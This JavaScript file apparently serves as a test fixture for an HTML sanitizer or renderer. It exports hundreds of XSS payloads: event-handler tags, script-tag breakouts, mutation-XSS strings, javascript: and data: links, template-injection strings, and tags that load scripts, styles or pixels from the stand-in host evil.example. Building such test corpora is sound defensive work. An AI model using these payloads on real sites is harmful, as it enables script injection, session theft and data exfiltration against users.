// Texts that would run a script, load something or break out of their place if a page took them for HTML. Each one that
// runs calls alert, sets window.executed, or asks evil.example for something.
const run = "alert(1);window.executed=1";

const handlers = ["onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onpageshow"];
const elements = ["img src=x", "svg", "video src=x", "audio src=x", "input autofocus", "details open", "body", "iframe", "object data=x", "marquee",
  "select autofocus", "a tabindex=1 href=#", "div style=animation-name:x", "button autofocus", "textarea autofocus"];
const events = elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}="${run}">`));

const scripts = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script src=//evil.example/x.js></script>`, `<script src="https://evil.example/x.js"></script>`,
  `</script><script>${run}</script>`, `"><script>${run}</script>`, `'><script>${run}</script>`, `--><script>${run}</script><!--`, `]]><script>${run}</script>`,
  `</textarea><script>${run}</script>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`, `</pre><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`, `<script\n>${run}</script>`, `<script/x>${run}</script>`, `<script>\u2028${run}</script>`,
  `<svg><script>${run}</script></svg>`, `<svg><script href=//evil.example/x.js /></svg>`, `<math><mtext><script>${run}</script></mtext></math>`,
  `<script type=module>${run}</script>`, `<script>eval(atob("YWxlcnQoMSk="))</script>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
];

const loads = [
  `<img src="https://evil.example/pixel">`, `<img srcset="https://evil.example/a 1x">`, `<picture><source srcset=//evil.example/b><img></picture>`,
  `<link rel=stylesheet href=//evil.example/c.css>`, `<link rel=prefetch href=//evil.example/d>`, `<style>@import "//evil.example/e.css";</style>`,
  `<style>*{background:url(//evil.example/f)}</style>`, `<p style="background:url(//evil.example/g)">x</p>`, `<iframe src=//evil.example/h></iframe>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`, `<object data=//evil.example/i></object>`, `<embed src=//evil.example/j>`,
  `<video poster=//evil.example/k></video>`, `<audio src=//evil.example/l></audio>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example/m">`,
  `<form action=//evil.example/n><input type=submit></form>`, `<svg><image href=//evil.example/o /></svg>`, `<svg><use href=//evil.example/p#x /></svg>`,
  `<input type=image src=//evil.example/q>`, `<body background=//evil.example/r>`, `<table background=//evil.example/s>`, `<track src=//evil.example/t>`,
  `![x](https://evil.example/u)`, `![x](//evil.example/v "t")`, `<https://evil.example/w>`, `<iframe src=javascript:alert(1)>`,
];

const links = [
  `[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](java\tscript:alert(1))`, `[x](data:text/html,<script>alert(1)</script>)`, `[x](vbscript:x)`,
  `<a href="javascript:${run}">x</a>`, `<a href="java&#9;script:${run}">x</a>`, `<a href=&#106;avascript:alert(1)>x</a>`, `javascript:${run}`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `[x]: javascript:alert(1)`, `**[x](javascript:alert(1))**`, `<javascript:alert(1)>`,
];

const breakouts = [
  `" onmouseover="${run}`, `' onfocus='${run}' autofocus='`, `\` onload=${run} \``, `x" autofocus onfocus="${run}" x="`, `</button><img src=x onerror=${run}>`,
  `&lt;img src=x onerror=${run}&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `%3Cscript%3E${run}%3C/script%3E`,
  `{{constructor.constructor("${run}")()}}`, `\${${run}}`, `{@html "<img src=x onerror=${run}>"}`, `<%= ${run} %>`, `#{${run}}`, `__proto__`, `constructor`, `toString`,
  `**<img src=x onerror=${run}>**`, `\`<img src=x onerror=${run}>\``, `- <img src=x onerror=${run}>`, `*<svg onload=${run}>*`, `1. <svg/onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<math><maction actiontype=statusline#x xlink:href=javascript:${run}>x`, `<xss style="behavior:url(x)">`,
  `<template><img src=x onerror=${run}></template>`, `<svg><style><img src=x onerror=${run}></style></svg>`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `\u202e<img src=x onerror=${run}>`, `\u0000<script>${run}</script>`, `＜script＞${run}＜/script＞`, `<img src=x onerror\u000b=${run}>`, `<img/src=x/onerror=${run}>`,
  `data: [DONE]`, `data: {"error":{"message":"x"}}`, `\n\ndata: [DONE]\n\n`, `<${"a".repeat(500)}`, `${"<b>".repeat(200)}deep`,
];

export const payloads = [...new Set([...events, ...scripts, ...loads, ...links, ...breakouts])];
